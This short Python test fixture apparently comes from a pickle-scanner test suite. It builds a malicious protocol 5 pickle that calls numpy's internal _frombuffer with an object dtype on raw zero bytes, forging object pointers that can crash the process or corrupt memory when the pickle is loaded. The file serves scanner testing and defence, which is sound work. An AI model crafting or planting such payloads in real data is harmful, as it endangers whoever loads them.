"""Protocol 5's _frombuffer makes objects of raw bytes."""

from __future__ import annotations

from malicious_samples.recipes import make_dtype
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    dtype = make_dtype("O8", order="|")
    return (
        Pickle(5)
        .call(Name("numpy._core.numeric", "_frombuffer"), bytearray(8), dtype, (1,), "C")
        .finish()
    )
